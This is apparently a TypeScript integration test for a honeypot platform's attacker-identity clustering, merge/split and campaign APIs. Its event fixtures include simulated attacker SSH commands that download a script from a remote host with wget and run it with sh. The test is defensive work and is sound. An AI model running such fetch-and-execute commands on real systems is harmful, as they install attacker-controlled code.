// Identities and campaigns through the real agent API and query API: two addresses with the same
// SSH client (HASSH) and dropper URL become one identity; evidence, observations, an analyst's
// merge and split (admin, with the live stream reporting them), and re-ingest changing nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runIdentities } from './services/identities/run';
import { startHarness, type Harness } from './testing/agent-harness';

let h: Harness;
let send: (events: object[]) => Promise<{ status: number; body: Record<string, any> }>;
const A = '198.51.100.41';
const B = '203.0.113.42';
const C = '192.0.2.43';
const HASSH = 'ec7378c1a92f5a8dde7e8b7a1ddf33d1';
const t0 = Date.now() - 600_000;
let n = 0;
const ev = (ip: string, service: string, eventType: string, fields: Record<string, string>, offsetS: number, id = `idn-${++n}`) => ({ id, ts: new Date(t0 + offsetS * 1000).toISOString(), decky: 'web-01', service, eventType, srcIp: ip, srcPort: 40000 + n, fields, raw: `<134>1 - web-01 ${service} - ${eventType} -` });

function batch(): object[] {
  n = 0;
  const out: object[] = [];
  for (const [i, ip] of [A, B].entries()) {
    const s = { session_id: `sess-${ip}` };
    out.push(ev(ip, 'sniffer', 'ssh_client_banner', { hassh: HASSH, client_banner: 'SSH-2.0-OpenSSH_9.2p1' }, i * 100));
    out.push(ev(ip, 'ssh', 'command', { ...s, cmd: 'wget http://198.51.100.9/x.sh -O /tmp/x.sh' }, i * 100 + 5));
    out.push(ev(ip, 'ssh', 'command', { ...s, cmd: 'sh /tmp/x.sh' }, i * 100 + 6));
  }
  out.push(ev(C, 'sniffer', 'ssh_client_banner', { hassh: 'f'.repeat(32) }, 300));
  return out;
}

async function cluster(): Promise<{ changes: number }> {
  for (;;) {
    const r = await runIdentities(h.cp.deps, { force: true });
    if (!r.busy) return r;
    await new Promise((ok) => setTimeout(ok, 100));
  }
}

async function attackerId(ip: string): Promise<string> {
  const list = await h.api(`/api/v1/attackers?q=${ip}`);
  return list.body.items.find((x: { ip: string }) => x.ip === ip).id as string;
}

beforeAll(async () => {
  h = await startHarness();
  const a = await h.enroll('sensor-identities');
  const d = h.mtls(a.certificatePem, a.keyPem);
  send = (events) => h.agentCall(d, '/agent/v1/events', { events });
  expect((await send(batch())).status).toBe(200);
  await cluster();
});
afterAll(() => h?.close());

describe('identities API', () => {
  let id = '';

  it('lists the two addresses with one SSH client as one identity, with the evidence of its edge', async () => {
    const list = await h.api('/api/v1/identities');
    expect(list.status).toBe(200);
    expect(list.body.total).toBe(1);
    id = list.body.items[0].id;
    expect(list.body.items[0]).toMatchObject({ memberCount: 2, fingerprints: [`hassh:${HASSH}`] });
    expect([...list.body.items[0].ips].sort()).toEqual([A, B].sort());
    const detail = await h.api(`/api/v1/identities/${id}`);
    expect(detail.status).toBe(200);
    expect(detail.body.edges).toHaveLength(1);
    const kinds = detail.body.edges[0].evidence.map((e: { kind: string }) => e.kind);
    expect(kinds).toEqual(expect.arrayContaining(['hassh', 'infrastructure']));
    expect(detail.body.log.map((l: { type: string }) => l.type)).toContain('identity.formed');
    const byAttacker = await h.api(`/api/v1/identities?attackerId=${await attackerId(A)}`);
    expect(byAttacker.body.items.map((x: { id: string }) => x.id)).toEqual([id]);
    const obs = await h.api(`/api/v1/identities/${id}/observations`);
    expect(obs.status).toBe(200);
    expect(obs.body.traits.find((t: { trait: string }) => t.trait === 'hassh')).toMatchObject({ state: 'unknown', observations: 2, values: [HASSH] }); // fewer than 3 sightings
    expect(obs.body.timeline.length).toBeGreaterThan(0);
    expect((await h.api(`/api/v1/identities/${id}/members`)).body.items).toHaveLength(2);
  });

  it('answers 404 for an unknown identity and 422 for a malformed id or merge body', async () => {
    expect((await h.api(`/api/v1/identities/${'0'.repeat(32)}`)).status).toBe(404);
    expect((await h.api('/api/v1/identities/not-an-id')).status).toBe(422);
    expect((await h.api(`/api/v1/identities/${id}/merge`, { from: 'x' })).status).toBe(422);
    expect((await h.api(`/api/v1/identities/${id}/merge`, {})).status).toBe(422);
  });

  it('an admin merge and split show on the live stream with who did it, and survive re-clustering', async () => {
    const ac = new AbortController();
    const res = await h.raw('/api/v1/identities/stream', { signal: ac.signal });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const c = await attackerId(C);
    const merged = await h.api(`/api/v1/identities/${id}/merge`, { attackerId: c });
    expect(merged.status).toBe(200);
    expect(merged.body).toMatchObject({ identityId: id, applied: true });
    await cluster();
    expect((await h.api(`/api/v1/identities/${id}`)).body.members).toHaveLength(3);
    const split = await h.api(`/api/v1/identities/${id}/members/${c}`, undefined, 'DELETE');
    expect(split.status).toBe(200);
    let text = '';
    for (let i = 0; i < 50 && !/identity\.unmerged/.test(text); i++) text += new TextDecoder().decode((await reader.read()).value);
    ac.abort();
    expect(text).toMatch(/event: change\ndata: .*"type":"identity.merged".*"actor":"admin"/);
    expect(text).toMatch(/"type":"identity.unmerged".*"actor":"admin"/);
    await cluster();
    expect((await h.api(`/api/v1/identities/${id}`)).body.members).toHaveLength(2);
  });

  it('ingesting the same batch twice changes nothing', async () => {
    const before = await h.api(`/api/v1/identities/${id}`);
    expect((await send(batch())).status).toBe(200);
    expect(await cluster()).toMatchObject({ changes: 0 });
    expect(await h.api(`/api/v1/identities/${id}`)).toEqual(before);
  });

  it('lists campaigns and the country/ASN breakdown', async () => {
    const list = await h.api('/api/v1/campaigns');
    expect(list.status).toBe(200);
    expect(list.body.total).toBe(0);
    const geo = await h.api('/api/v1/identities/breakdown');
    expect(geo.status).toBe(200);
    expect(geo.body).toMatchObject({ countries: expect.any(Array), asns: expect.any(Array) });
  });
});
